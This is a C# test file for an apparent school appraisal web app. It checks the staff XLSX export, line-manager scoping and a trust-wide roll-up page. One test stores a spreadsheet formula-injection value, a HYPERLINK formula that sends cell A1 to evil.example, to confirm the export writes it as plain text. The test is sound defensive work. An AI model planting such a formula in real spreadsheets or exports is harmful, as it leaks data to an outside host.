using System.Net;
using ClosedXML.Excel;
using Lynchpin.Core.Appraisals;
using Lynchpin.Core.Data.Models;
using Lynchpin.Tests.Infrastructure;
using Lynchpin.Web.Pages.Appraisals.Schools;

namespace Lynchpin.Tests.Appraisals.Schools;

/// <summary>The school's XLSX and the trust roll-up, on the hand-checked school (see <see cref="SchoolAppraisalTest"/>), both databases.</summary>
public abstract class ExportAndTrustTests(LynchpinAppFactory app) : SchoolAppraisalTest(app)
{
    public sealed class Sqlite(SqliteMarchAppFactory app) : ExportAndTrustTests(app), IClassFixture<SqliteMarchAppFactory>;

    public sealed class Postgres(PostgresMarchAppFactory app) : ExportAndTrustTests(app), IClassFixture<PostgresMarchAppFactory>;

    private const string PayText = "Move to the next point on the support staff pay scale";

    private static async Task<XLWorkbook> WorkbookAsync(HttpResponseMessage response)
    {
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", response.Content.Headers.ContentType?.MediaType);
        return new XLWorkbook(await response.Content.ReadAsStreamAsync());
    }

    /// <summary>A sheet's rows below the header, as column name → text, by staff reference.</summary>
    private static Dictionary<string, Dictionary<string, string>> RowsByStaffRef(IXLWorksheet sheet)
    {
        var columns = sheet.Row(1).CellsUsed().Select(c => c.GetString()).ToList();
        return sheet.RowsUsed().Skip(1).ToDictionary(
            r => r.Cell(1).GetString(),
            r => columns.Select((name, i) => (name, value: Value(r.Cell(i + 1)))).ToDictionary(c => c.name, c => c.value));
    }

    /// <summary>A date cell as yyyy-MM-dd (it must be a real date, not text), anything else as its text.</summary>
    private static string Value(IXLCell cell) =>
        cell.DataType == XLDataType.DateTime ? cell.GetDateTime().ToString("yyyy-MM-dd", System.Globalization.CultureInfo.InvariantCulture) : cell.GetFormattedString();

    [SkippableFact]
    public async Task Get_Export_HasARowPerPersonInPostWithStatusesAndRatingsButNeverPay()
    {
        // Arrange: B's final review has begun and a pay recommendation is recorded for B
        var s = await HandCheckedAsync();
        var b = await AppraisalOfAsync(s.B);
        AssertDone(await WithAsync<AppraisalReviews, Result<AppraisalReview>>(r => r.StartAsync(b.Id, ReviewKind.Final)));
        AssertDone(await WithAsync<PayRecommendations, Result<PayRecommendation>>(p => p.RecordAsync(b.Id, PayText, Leader)));
        using var client = await LeaderOfAsync(s.School);

        // Act
        using var response = await client.GetAsync($"/schools/{s.School.Urn}/appraisal/export?year=2025");
        using var workbook = await WorkbookAsync(response);

        // Assert: the people sheet, in the published column order, seven people (not the leaver)
        Assert.Equal($"appraisal-{s.School.Urn}-2025-26.xlsx", response.Content.Headers.ContentDisposition?.FileNameStar ?? response.Content.Headers.ContentDisposition?.FileName);
        var people = workbook.Worksheet(1);
        Assert.Equal(ExportModel.PeopleColumns, people.Row(1).CellsUsed().Select(c => c.GetString()));
        var rows = RowsByStaffRef(people);
        Assert.Equal(new[] { s.A, s.B, s.C, s.D, s.E, s.F, s.G }.Select(p => p.StaffRef).Order(), rows.Keys.Order());
        var c = rows[s.C.StaffRef];
        Assert.Equal(("Cat", "teaching", "teaching", s.A.FullName), (c["first_name"], c["role_family"], c["category"], c["appraiser"]));
        Assert.Equal(("agreed", "2", "yes"), (c["objectives_status"], c["objective_count"], c["pupil_progress_objective"]));
        Assert.Equal($"1. {PupilProgress.Title} (pupil-progress)\n2. {RoleSpecific.Title} (role-specific)", c["objectives"]);
        Assert.Equal(("appraiser-signed", "2026-03-10", "", "off-track"),
            (c["mid_year_status"], c["mid_year_appraiser_signed_on"], c["mid_year_person_signed_on"], c["mid_year_on_track"]));
        Assert.Equal("1. On track\n2. Off track", c["mid_year_ratings"]);
        Assert.Equal(("done", "at-risk"), (rows[s.D.StaffRef]["mid_year_status"], rows[s.D.StaffRef]["mid_year_on_track"]));
        Assert.Equal(("in-progress", ""), (rows[s.E.StaffRef]["mid_year_status"], rows[s.E.StaffRef]["mid_year_on_track"]));
        Assert.Equal(("not-agreed", "no"), (rows[s.F.StaffRef]["objectives_status"], rows[s.F.StaffRef]["pupil_progress_objective"]));
        Assert.Equal(("in-progress", "not-started"), (rows[s.B.StaffRef]["final_status"], rows[s.A.StaffRef]["final_status"]));

        // one row per objective on the second sheet
        var objectives = workbook.Worksheet(2);
        Assert.Equal(ExportModel.ObjectiveColumns, objectives.Row(1).CellsUsed().Select(x => x.GetString()));
        Assert.Equal(2 + 2 + 2 + 2 + 1 + 1, objectives.RowsUsed().Count() - 1);

        // and nothing about pay, anywhere
        Assert.DoesNotContain(workbook.Worksheets.SelectMany(w => w.Row(1).CellsUsed()), cell => cell.GetString().Contains("pay", StringComparison.OrdinalIgnoreCase));
        Assert.DoesNotContain(workbook.Worksheets.SelectMany(w => w.CellsUsed()), cell => cell.GetString().Contains(PayText, StringComparison.Ordinal));
    }

    [SkippableFact]
    public async Task Get_ExportWithTextLikeAFormula_WritesItAsText()
    {
        // Arrange: a job title typed to run as a formula in Excel
        var s = await HandCheckedAsync();
        const string Title = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
        await Data.WithDbAsync(async db =>
        {
            (await db.StaffMembers.FindAsync(s.C.Id))!.JobTitle = Title;
            return await db.SaveChangesAsync();
        });
        using var client = await LeaderOfAsync(s.School);

        // Act
        using var response = await client.GetAsync($"/schools/{s.School.Urn}/appraisal/export?year=2025");
        using var workbook = await WorkbookAsync(response);

        // Assert: text with Excel's own quote prefix (ClosedXML turns the apostrophe into it), never a formula
        var people = workbook.Worksheet(1);
        var column = people.Row(1).CellsUsed().Single(c => c.GetString() == "job_title").Address.ColumnNumber;
        var cell = people.RowsUsed().Single(r => r.Cell(1).GetString() == s.C.StaffRef).Cell(column);
        Assert.Equal((Title, false, true), (cell.GetString(), cell.HasFormula, cell.Style.IncludeQuotePrefix));
        Assert.DoesNotContain(workbook.Worksheets.SelectMany(w => w.CellsUsed()), c => c.HasFormula);
    }

    [SkippableFact]
    public async Task Get_ExportAsALineManager_HasOnlyTheirTeam()
    {
        // Arrange
        var s = await HandCheckedAsync();
        using var client = await LineManagerAsync(s.B);

        // Act
        using var response = await client.GetAsync($"/schools/{s.School.Urn}/appraisal/export?year=2025");
        using var workbook = await WorkbookAsync(response);

        // Assert
        Assert.Equal(new[] { s.D.StaffRef, s.G.StaffRef }.Order(), RowsByStaffRef(workbook.Worksheet(1)).Keys.Order());
    }

    [SkippableFact]
    public async Task Get_ExportOfAYearWithoutACycle_IsTheHeadersAlone()
    {
        // Arrange
        var s = await HandCheckedAsync();
        using var client = await LeaderOfAsync(s.School);

        // Act
        using var response = await client.GetAsync($"/schools/{s.School.Urn}/appraisal/export?year=2026");
        using var bad = await client.GetAsync($"/schools/{s.School.Urn}/appraisal/export?year=soon");
        using var workbook = await WorkbookAsync(response);

        // Assert
        Assert.Equal(1, workbook.Worksheet(1).LastRowUsed()!.RowNumber());
        Assert.Equal(HttpStatusCode.BadRequest, bad.StatusCode);
    }

    [SkippableFact]
    public async Task Get_TrustRollUp_ShowsEachSchoolAndTheTrustTotal()
    {
        // Arrange: two hand-checked schools and one that has not opened its cycle
        var trust = await Data.CreateTrustAsync();
        var first = await HandCheckedAsync(trust);
        var second = await HandCheckedAsync(trust);
        var closed = await Data.CreateSchoolAsync(trust);
        await Data.CreateStaffAsync(closed);
        using var client = await App.CreateSignedInClientAsync(await Data.CreateUserAsync(UserRole.TrustAdmin, trust: trust));

        // Act
        var page = await PageAsync(client, $"/trusts/{trust.Code}/appraisal?year=2025");

        // Assert: people, agreed, with pupil progress, support with one, mid-year and final done/due/overdue
        Assert.Equal(["7", "4 (57%)", "5 (71%)", "3 (75%)", "2 / 0 / 5", "0 / 7 / 0"], Row(page, "trust-table", first.School.Name));
        Assert.Equal(["7", "4 (57%)", "5 (71%)", "3 (75%)", "2 / 0 / 5", "0 / 7 / 0"], Row(page, "trust-table", second.School.Name));
        Assert.Equal(["0", "0 (–)", "0 (–)", "0 (–)", "0 / 0 / 0", "0 / 0 / 0"], Row(page, "trust-table", $"{closed.Name} Cycle not opened"));
        Assert.Equal(["14", "8 (57%)", "10 (71%)", "6 (75%)", "4 / 0 / 10", "0 / 14 / 0"], Row(page, "trust-table", "Whole trust"));
        Assert.Equal(["1", "0", "1", "1", "0", "1", "0", "3"], Row(page, "on-track-table", first.School.Name));
        Assert.Equal(["2", "0", "2", "2", "0", "2", "0", "6"], Row(page, "on-track-table", "Whole trust"));
        Assert.NotNull(page.QuerySelector($"#trust-table a[href='/schools/{first.School.Urn}/appraisal?year=2025']"));
        Assert.Equal(
        [
            "2 of the trust's 3 schools have opened the 2025/26 appraisal cycle.",
            "Across them, 8 of 14 people have agreed objectives (57%), 6 of 8 support staff (75%) have a pupil-progress objective, and 10 reviews are overdue.",
        ], page.QuerySelectorAll("#sentences p").Select(Text));
    }

    [SkippableFact]
    public async Task Get_TrustRollUpAsALeaderOfOneOfItsSchools_IsForbidden()
    {
        // Arrange
        var trust = await Data.CreateTrustAsync();
        var s = await HandCheckedAsync(trust);
        using var client = await LeaderOfAsync(s.School);

        // Act
        using var response = await client.GetAsync($"/trusts/{trust.Code}/appraisal");
        using var unknown = await client.GetAsync($"/trusts/NO-SUCH-{TestData.Unique()}/appraisal");

        // Assert
        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, unknown.StatusCode);
    }
}
